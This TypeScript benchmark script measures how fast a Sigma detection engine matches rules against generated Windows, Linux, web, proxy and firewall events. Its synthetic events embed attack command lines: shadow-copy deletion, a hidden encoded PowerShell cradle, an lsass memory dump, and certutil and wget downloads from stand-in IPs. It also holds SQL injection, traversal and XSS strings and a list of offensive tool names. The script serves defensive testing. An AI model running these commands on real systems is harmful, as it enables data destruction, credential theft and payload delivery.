/**
 * `npm run bench:rules [-- --json] [-- --seconds N]`: Sigma matching cost per event on a generated, realistic mix of
 * Windows (Sysmon, Security), Linux, web server, proxy and firewall events, with 100 rules, 1,000 rules and (when
 * ../shared/sigma is present) all SigmaHQ rules; plus the time to compile all of them (read, parse, compile, in a
 * fresh process). The 100 / 1,000 rule sets are the starter rules plus a deterministic sample of the SigmaHQ rules
 * when those are present, otherwise (or with `--generated`) plus generated rules shaped like them. With `--json`
 * the last line is `{ "sizes": [{ "rules": N, "usPerEvent": x }...], "compileMs": y }`.
 */
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import type { Logsource } from '../core/domain/event.js';
import { createEventNormalizer } from '../core/detection/mappings/index.js';
import type { CompiledRule, MatchableEvent } from '../core/detection/rule.js';
import { loadRuleset, RuleEngine } from '../core/detection/ruleset.js';

const root = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '..');
const sigmaRoot = path.resolve(root, '..', 'shared', 'sigma');
const SIGMA_DIRS = ['rules', 'rules-emerging-threats', 'rules-threat-hunting'];
const argv = process.argv.slice(2);
const JSON_OUT = argv.includes('--json');
/** Use generated rules for the 100 / 1,000 sets even when the SigmaHQ rules are present (and skip those). */
const GENERATED = argv.includes('--generated');
const secondsArg = argv.indexOf('--seconds');
const SECONDS = secondsArg >= 0 ? Number(argv[secondsArg + 1]) : 1.5;

// ---------------------------------------------------------------------------------------------------------------
// Deterministic randomness.

function rng(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (s + 0x6d2b79f5) >>> 0;
    let t = s;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const rand = rng(20240601);
const pick = <T>(list: readonly T[]): T => list[Math.floor(rand() * list.length)]!;
const int = (lo: number, hi: number) => lo + Math.floor(rand() * (hi - lo + 1));
const ip = () => `${pick([10, 172, 192, 203, 198, 45, 91])}.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`;
const hex = (n: number) => Array.from({ length: n }, () => '0123456789ABCDEF'[int(0, 15)]).join('');
const guid = () => `{${hex(8)}-${hex(4)}-${hex(4)}-${hex(4)}-${hex(12)}}`;

// ---------------------------------------------------------------------------------------------------------------
// Events.

const USERS = ['MINFIN\\j.doe', 'MINFIN\\a.nguyen', 'NT AUTHORITY\\SYSTEM', 'MOH\\t.tran', 'MOH\\svc_backup', 'DNG\\admin.le'];
const HOSTS = ['mof-ws-114', 'mof-dc01', 'moh-ws-020', 'han-web02', 'dng-srv-ssh', 'moh-mail01'];
const WIN_PROCS: [string, string[]][] = [
  ['C:\\Windows\\System32\\svchost.exe', ['svchost.exe -k netsvcs -p -s Schedule', 'svchost.exe -k LocalServiceNetworkRestricted -p']],
  ['C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', ['"chrome.exe" --type=renderer --lang=en-US --field-trial-handle=1740']],
  ['C:\\Windows\\System32\\cmd.exe', ['cmd.exe /c dir C:\\Users', 'cmd.exe /c echo %TEMP%', 'cmd.exe /c whoami /all']],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', ['powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1', 'powershell.exe Get-Service']],
  ['C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', ['"WINWORD.EXE" /n "C:\\Users\\j.doe\\Documents\\budget 2025.docx"']],
  ['C:\\Windows\\System32\\conhost.exe', ['\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1']],
  ['C:\\Windows\\explorer.exe', ['C:\\Windows\\Explorer.EXE']],
  ['C:\\Windows\\System32\\taskhostw.exe', ['taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}']],
  ['C:\\Program Files\\7-Zip\\7z.exe', ['"7z.exe" a C:\\Backup\\docs.7z C:\\Users\\j.doe\\Documents']],
  ['C:\\Windows\\System32\\reg.exe', ['reg.exe query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run']],
];
const ATTACKS: [string, string][] = [
  ['C:\\Windows\\System32\\vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'],
  ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA'],
  ['C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\lsass.dmp full'],
  ['C:\\Windows\\System32\\certutil.exe', 'certutil.exe -urlcache -split -f http://198.51.100.23/a.exe C:\\Users\\Public\\a.exe'],
];

function sysmonProcess(): MatchableEvent {
  const attack = rand() < 0.03;
  const [image, cmds] = attack ? [pick(ATTACKS)[0], [pick(ATTACKS)[1]]] : pick(WIN_PROCS);
  const [parent, pcmds] = pick(WIN_PROCS);
  return {
    logsource: { product: 'windows', category: 'process_creation', service: 'sysmon' },
    fields: {
      EventID: 1,
      Channel: 'Microsoft-Windows-Sysmon/Operational',
      Computer: pick(HOSTS),
      RuleName: '-',
      UtcTime: '2025-03-04 10:15:30.123',
      ProcessGuid: guid(),
      ProcessId: int(400, 20000),
      Image: image,
      FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
      Description: path.win32.basename(image).replace(/\.exe$/i, ''),
      Product: 'Microsoft® Windows® Operating System',
      Company: 'Microsoft Corporation',
      OriginalFileName: path.win32.basename(image),
      CommandLine: pick(cmds),
      CurrentDirectory: 'C:\\Windows\\system32\\',
      User: pick(USERS),
      LogonGuid: guid(),
      LogonId: `0x${hex(6)}`,
      TerminalSessionId: 1,
      IntegrityLevel: pick(['Medium', 'High', 'System']),
      Hashes: `MD5=${hex(32)},SHA256=${hex(64)},IMPHASH=${hex(32)}`,
      ParentProcessGuid: guid(),
      ParentProcessId: int(400, 20000),
      ParentImage: parent,
      ParentCommandLine: pick(pcmds),
      ParentUser: pick(USERS),
    },
  };
}

function sysmonOther(): MatchableEvent {
  const [image] = pick(WIN_PROCS);
  const base = { Channel: 'Microsoft-Windows-Sysmon/Operational', Computer: pick(HOSTS), ProcessGuid: guid(), ProcessId: int(400, 20000), Image: image, User: pick(USERS), UtcTime: '2025-03-04 10:15:31.001' };
  switch (int(0, 3)) {
    case 0:
      return { logsource: { product: 'windows', category: 'network_connection', service: 'sysmon' }, fields: { ...base, EventID: 3, Protocol: 'tcp', Initiated: 'true', SourceIp: ip(), SourcePort: int(49152, 65535), DestinationIp: ip(), DestinationPort: pick([443, 80, 445, 3389, 53]), DestinationHostname: pick(['www.gov.vn', 'update.microsoft.com', 'cdn.example.net']) } };
    case 1:
      return { logsource: { product: 'windows', category: 'file_event', service: 'sysmon' }, fields: { ...base, EventID: 11, TargetFilename: pick(['C:\\Users\\j.doe\\AppData\\Local\\Temp\\tmp' + hex(4) + '.tmp', 'C:\\Windows\\Prefetch\\CHROME.EXE-' + hex(8) + '.pf', 'C:\\Users\\Public\\Documents\\report.xlsx']), CreationUtcTime: '2025-03-04 10:15:31.001' } };
    case 2:
      return { logsource: { product: 'windows', category: 'registry_set', service: 'sysmon' }, alsoLogsources: [{ product: 'windows', category: 'registry_event', service: 'sysmon' }], fields: { ...base, EventID: 13, EventType: 'SetValue', TargetObject: pick(['HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive', 'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\MRU', 'HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings']), Details: pick(['DWORD (0x00000001)', 'C:\\Program Files\\Microsoft OneDrive\\OneDrive.exe /background']) } } as MatchableEvent;
    default:
      return { logsource: { product: 'windows', category: 'dns_query', service: 'sysmon' }, fields: { ...base, EventID: 22, QueryName: pick(['www.gov.vn', 'login.microsoftonline.com', 'cdn.example.net', 'x7f3a.duckdns.org']), QueryStatus: '0', QueryResults: `::ffff:${ip()};` } };
  }
}

function security(): MatchableEvent {
  const id = pick([4624, 4625, 4634, 4672, 4688, 4768, 4769]);
  return {
    logsource: { product: 'windows', service: 'security' },
    fields: {
      EventID: id,
      Channel: 'Security',
      Computer: pick(HOSTS),
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: pick(['MOF-DC01$', 'j.doe', 'SYSTEM']),
      SubjectDomainName: 'MINFIN',
      SubjectLogonId: `0x${hex(5)}`,
      TargetUserName: pick(['j.doe', 'administrator', 'svc_backup', 'a.nguyen']),
      TargetDomainName: 'MINFIN',
      LogonType: pick([2, 3, 5, 10]),
      LogonProcessName: 'NtLmSsp',
      AuthenticationPackageName: 'NTLM',
      WorkstationName: pick(HOSTS).toUpperCase(),
      IpAddress: ip(),
      IpPort: int(1024, 65535),
      ProcessName: 'C:\\Windows\\System32\\lsass.exe',
      Status: id === 4625 ? '0xc000006d' : '0x0',
    },
  };
}

function linux(): MatchableEvent {
  if (rand() < 0.5) {
    return {
      logsource: { product: 'linux', service: 'auth' },
      fields: { message: pick([`Failed password for invalid user admin from ${ip()} port ${int(1024, 65535)} ssh2`, `Accepted publickey for deploy from ${ip()} port 52044 ssh2: ED25519 SHA256:${hex(20)}`, 'pam_unix(cron:session): session opened for user root by (uid=0)', 'sudo:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx']), host: pick(HOSTS), program: pick(['sshd', 'sudo', 'CRON']) },
    };
  }
  const [image, cmd] = pick([
    ['/usr/bin/curl', 'curl -s https://repo.example.net/health'],
    ['/usr/bin/bash', 'bash -c /opt/app/bin/rotate-logs.sh'],
    ['/usr/sbin/nginx', 'nginx: worker process'],
    ['/usr/bin/python3', 'python3 /opt/app/manage.py runjobs hourly'],
    ['/usr/bin/wget', 'wget -q -O- http://203.0.113.9/x.sh'],
  ] as const);
  return {
    logsource: { product: 'linux', category: 'process_creation' },
    fields: { Image: image, CommandLine: cmd, ParentImage: '/usr/bin/bash', User: pick(['root', 'www-data', 'deploy']), CurrentDirectory: '/home/deploy', ProcessId: int(100, 60000) },
  };
}

const URIS = ['/', '/index.php', '/news/2025/03/04/budget', '/login', '/api/v1/reports', '/static/app.js', '/wp-login.php', '/search'];
const UAS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/122.0 Safari/537.36', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_3 like Mac OS X) AppleWebKit/605.1.15', 'curl/8.5.0', 'sqlmap/1.7.2#stable (https://sqlmap.org)'];

function web(): MatchableEvent {
  const attack = rand() < 0.05;
  return {
    logsource: { category: 'webserver' },
    fields: {
      'cs-method': pick(['GET', 'GET', 'POST']),
      'c-uri': pick(URIS),
      'c-uri-query': attack ? pick(["id=1' UNION SELECT username,password FROM users--", 'file=../../../../etc/passwd', 'q=<script>alert(1)</script>']) : `page=${int(1, 9)}&sort=date`,
      'sc-status': pick([200, 200, 200, 304, 404, 500]),
      'c-ip': ip(),
      'c-useragent': attack ? UAS[3] : pick(UAS.slice(0, 3)),
      'cs-referer': 'https://www.gov.vn/',
      'cs-host': 'portal.gov.vn',
    },
  };
}

function proxy(): MatchableEvent {
  return {
    logsource: { category: 'proxy' },
    fields: {
      'c-ip': ip(),
      'cs-method': pick(['GET', 'CONNECT', 'POST']),
      'cs-host': pick(['www.google.com', 'login.microsoftonline.com', 'pastebin.com', 'cdn.jsdelivr.net', 'x7f3a.duckdns.org']),
      'c-uri': `https://${pick(['www.google.com', 'cdn.jsdelivr.net'])}/${pick(['search?q=budget', 'npm/jquery@3.7.1/dist/jquery.min.js', 'raw/abc123'])}`,
      'c-useragent': pick(UAS),
      'sc-status': pick([200, 200, 302, 403]),
      'cs-bytes': int(200, 5000),
      'sc-bytes': int(500, 2000000),
      'r-dns': pick(['www.google.com', 'cdn.jsdelivr.net']),
    },
  };
}

function firewall(): MatchableEvent {
  return {
    logsource: { category: 'firewall' },
    fields: { action: pick(['allow', 'allow', 'deny', 'drop']), src_ip: ip(), src_port: int(1024, 65535), dst_ip: ip(), dst_port: pick([443, 80, 53, 445, 22, 3389, 8080]), protocol: pick(['tcp', 'udp']), bytes: int(60, 150000), rule: `fw-${int(1, 40)}` },
  };
}

function generateEvents(n: number): MatchableEvent[] {
  const mix: [number, () => MatchableEvent][] = [
    [0.35, sysmonProcess],
    [0.15, sysmonOther],
    [0.12, security],
    [0.1, linux],
    [0.12, web],
    [0.08, proxy],
    [0.08, firewall],
  ];
  const out: MatchableEvent[] = [];
  for (let i = 0; i < n; i++) {
    let r = rand();
    let gen = mix[mix.length - 1]![1];
    for (const [p, g] of mix) {
      if (r < p) {
        gen = g;
        break;
      }
      r -= p;
    }
    out.push(gen());
  }
  return out;
}

// ---------------------------------------------------------------------------------------------------------------
// Generated rules, used for the 100 / 1,000 sets when the SigmaHQ rules are absent.

const WORDS = ['mimikatz', 'rubeus', 'sharphound', 'procdump', 'psexec', 'wmic', 'bitsadmin', 'mshta', 'regsvr32', 'cscript', 'nltest', 'adfind', 'rclone', 'anydesk', 'ngrok', 'plink', 'lazagne', 'nanodump', 'certipy', 'impacket'];

function generatedRule(i: number): string {
  const w = (k: number) => `${WORDS[(i * 7 + k) % WORDS.length]}${i}`;
  const kinds: [string, string][] = [
    ['product: windows\n    category: process_creation', `selection_img:\n        - Image|endswith: '\\\\${w(0)}.exe'\n        - OriginalFileName: '${w(0)}.exe'\n    selection_cli:\n        CommandLine|contains:\n            - ' -${w(1)} '\n            - ' /${w(2)}'\n    filter_main:\n        ParentImage|startswith: 'C:\\\\Program Files\\\\'\n    condition: all of selection_* and not 1 of filter_main*`],
    ['product: windows\n    service: security', `selection:\n        EventID: 4688\n        NewProcessName|endswith: '\\\\${w(0)}.exe'\n    condition: selection`],
    ['category: webserver', `selection:\n        cs-method: 'GET'\n        c-uri|contains:\n            - '/${w(0)}'\n            - '/${w(1)}.php'\n    condition: selection`],
    ['category: proxy', `selection:\n        c-useragent|contains: '${w(0)}'\n    condition: selection`],
    ['product: linux\n    category: process_creation', `selection:\n        Image|endswith: '/${w(0)}'\n        CommandLine|contains|all:\n            - '--${w(1)}'\n            - 'http'\n    condition: selection`],
    ['category: firewall', `selection:\n        dst_port: ${4000 + (i % 1000)}\n        action: allow\n    filter:\n        dst_ip|cidr: '10.0.0.0/8'\n    condition: selection and not filter`],
    ['product: windows\n    category: registry_set', `selection:\n        TargetObject|contains: '\\\\${w(0)}\\\\'\n        Details|startswith: 'DWORD'\n    condition: selection`],
  ];
  const [ls, det] = kinds[i % kinds.length]!;
  return `title: Generated rule ${i}\nid: 00000000-0000-4000-8000-${String(i).padStart(12, '0')}\nstatus: test\nlevel: medium\nlogsource:\n    ${ls}\ndetection:\n    ${det}\n`;
}

async function generatedRuleset(count: number, starter: CompiledRule[]): Promise<CompiledRule[]> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'vigil-bench-rules-'));
  try {
    for (let i = 0; i < count - starter.length; i++) fs.writeFileSync(path.join(dir, `gen_${i}.yml`), generatedRule(i));
    const rs = await loadRuleset(dir, { baseDir: dir });
    if (rs.errors.length > 0) throw new Error(`generated rules do not compile: ${rs.errors[0]!.message}`);
    return [...starter, ...rs.rules];
  } finally {
    fs.rmSync(dir, { recursive: true, force: true });
  }
}

function sample<T>(list: readonly T[], n: number, seed: number): T[] {
  const r = rng(seed);
  const copy = list.slice();
  for (let i = copy.length - 1; i > 0; i--) {
    const j = Math.floor(r() * (i + 1));
    [copy[i], copy[j]] = [copy[j]!, copy[i]!];
  }
  return copy.slice(0, n);
}

// ---------------------------------------------------------------------------------------------------------------

interface SizeResult {
  rules: number;
  usPerEvent: number;
  usPerEventNoPrefilter: number;
  hitsPerEvent: number;
}

function measure(engine: RuleEngine, events: readonly MatchableEvent[], seconds: number): { us: number; hits: number } {
  let hits = 0;
  for (const e of events) hits += engine.match(e).length; // warm-up: routes, prefilters, JIT
  let n = 0;
  const t0 = process.hrtime.bigint();
  const budget = BigInt(Math.round(seconds * 1e9));
  for (;;) {
    for (let i = 0; i < events.length; i++) engine.match(events[i]!);
    n += events.length;
    if (process.hrtime.bigint() - t0 >= budget) break;
  }
  const ns = Number(process.hrtime.bigint() - t0);
  return { us: ns / 1000 / n, hits: hits / events.length };
}

function benchSize(rules: CompiledRule[], events: readonly MatchableEvent[]): SizeResult {
  const withPf = measure(new RuleEngine(rules), events, SECONDS);
  const without = measure(new RuleEngine(rules, { prefilter: false }), events, Math.min(SECONDS, 1));
  return { rules: rules.length, usPerEvent: withPf.us, usPerEventNoPrefilter: without.us, hitsPerEvent: withPf.hits };
}

async function main(): Promise<void> {
  const haveSigma = !GENERATED && SIGMA_DIRS.every((d) => fs.existsSync(path.join(sigmaRoot, d)));

  // Compile time first, while this process is still cold (as at server start).
  let compileMs: number;
  let sigmaRules: CompiledRule[] = [];
  const t0 = performance.now();
  if (haveSigma) {
    for (const d of SIGMA_DIRS) sigmaRules.push(...(await loadRuleset(path.join(sigmaRoot, d), { baseDir: sigmaRoot })).rules);
    compileMs = performance.now() - t0;
  } else {
    compileMs = NaN;
  }
  const starter = (await loadRuleset(path.join(root, 'rules'), { baseDir: root })).rules;

  const events = generateEvents(20000);
  const byKind = new Map<string, number>();
  for (const e of events) {
    const k = [e.logsource.product, e.logsource.category, e.logsource.service].filter(Boolean).join('/');
    byKind.set(k, (byKind.get(k) ?? 0) + 1);
  }

  const sets: { label: string; rules: CompiledRule[] }[] = [];
  if (haveSigma) {
    const seenIds = new Set(starter.map((r) => r.id));
    const pool = sigmaRules.filter((r) => !seenIds.has(r.id));
    sets.push({ label: '100 (starter + SigmaHQ sample)', rules: [...starter, ...sample(pool, 100 - starter.length, 1)] });
    sets.push({ label: '1,000 (starter + SigmaHQ sample)', rules: [...starter, ...sample(pool, 1000 - starter.length, 2)] });
    sets.push({ label: `all SigmaHQ (${sigmaRules.length})`, rules: sigmaRules });
  } else {
    sets.push({ label: '100 (starter + generated)', rules: await generatedRuleset(100, starter) });
    const t1 = performance.now();
    const thousand = await generatedRuleset(1000, starter);
    compileMs = performance.now() - t1;
    sets.push({ label: '1,000 (starter + generated)', rules: thousand });
  }

  let normalizeUs: number | null = null;
  {
    // The cost of the field mappings for Windows records in their JSON rendering.
    const normalizer = createEventNormalizer(path.join(root, 'rules', 'mappings'));
    const raw = events
      .filter((e) => e.logsource.product === 'windows' && typeof e.fields.Channel === 'string')
      .slice(0, 2000)
      .map((e) => {
        const { EventID, Channel, Computer, ...data } = e.fields;
        return { logsource: {} as Logsource, fields: { Event: { System: { Provider: { '#attributes': { Name: 'Microsoft-Windows-Sysmon' } }, EventID, Channel, Computer }, EventData: data } } };
      });
    for (const e of raw) normalizer.normalize(e);
    const t = process.hrtime.bigint();
    let n = 0;
    while (Number(process.hrtime.bigint() - t) < 0.5e9) {
      for (const e of raw) normalizer.normalize(e);
      n += raw.length;
    }
    normalizeUs = Number(process.hrtime.bigint() - t) / 1000 / n;
  }

  const results: SizeResult[] = [];
  console.log(`Sigma matching bench: ${events.length} generated events (${[...byKind].map(([k, v]) => `${k} ${v}`).join(', ')})`);
  for (const s of sets) {
    const r = benchSize(s.rules, events);
    results.push(r);
    console.log(
      `  ${s.label.padEnd(36)} ${r.usPerEvent.toFixed(2).padStart(7)} µs/event   (no prefilter ${r.usPerEventNoPrefilter.toFixed(2)} µs; ${r.hitsPerEvent.toFixed(3)} hits/event)`,
    );
  }
  console.log(`  field mappings (Windows JSON records)  ${normalizeUs.toFixed(2).padStart(7)} µs/event`);
  console.log(
    haveSigma
      ? `  compile all ${sigmaRules.length} SigmaHQ rules (read + parse + compile, cold): ${compileMs.toFixed(0)} ms`
      : `  compile 1,000 rules (read + parse + compile): ${compileMs.toFixed(0)} ms  (${GENERATED ? '--generated' : '../shared/sigma not present'})`,
  );
  if (JSON_OUT) {
    console.log(JSON.stringify({ sizes: results.map((r) => ({ rules: r.rules, usPerEvent: Number(r.usPerEvent.toFixed(3)) })), compileMs: Math.round(compileMs) }));
  }
}

main().catch((err) => {
  console.error(err);
  process.exit(1);
});
